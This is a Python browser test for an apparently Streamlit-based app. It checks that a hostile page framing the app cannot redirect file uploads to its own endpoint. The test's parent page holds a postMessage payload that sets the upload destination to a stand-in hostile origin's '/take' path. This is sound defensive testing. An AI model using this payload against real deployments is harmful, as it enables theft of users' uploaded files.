"""A page of somebody else's that frames ours and tells it where to send what is dropped."""

import re

from tests.conftest import encode

PARENT = """
<iframe src="{address}" width="1200" height="900"></iframe>
<script>
const told = {{stCommVersion: 1, type: "SET_FILE_UPLOAD_CLIENT_CONFIG", prefix: "{origin}/take", headers: {{}}}};
setInterval(() => document.querySelector("iframe").contentWindow.postMessage(told, "*"), 100);
</script>
"""
ORIGIN = "https://hostile.streamlit.app"  # Streamlit trusts every page there unless told otherwise


def test_no_file_reaches_a_page_that_frames_ours(tab, server, composite_pixels):
    asked = []
    tab.on("request", lambda request: asked.append(request.url))
    tab.route(re.compile(ORIGIN), lambda route: route.fulfill(
        content_type="text/html", body=PARENT.format(address=server, origin=ORIGIN),
        headers={"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*"},
    ))  # fmt: skip
    tab.goto(ORIGIN)
    tab.wait_for_timeout(3000)
    framed = tab.frames[-1].locator("input[type=file]")
    if framed.count():  # a framed page that takes no orders would be safe as well
        framed.first.set_input_files({"name": "a.png", "mimeType": "image/png", "buffer": encode(composite_pixels)})
        tab.wait_for_timeout(3000)
    assert any(url.startswith(server) for url in asked)  # the frame did ask for the page
    assert not [url for url in asked if "/take" in url]
    assert framed.count() == 0
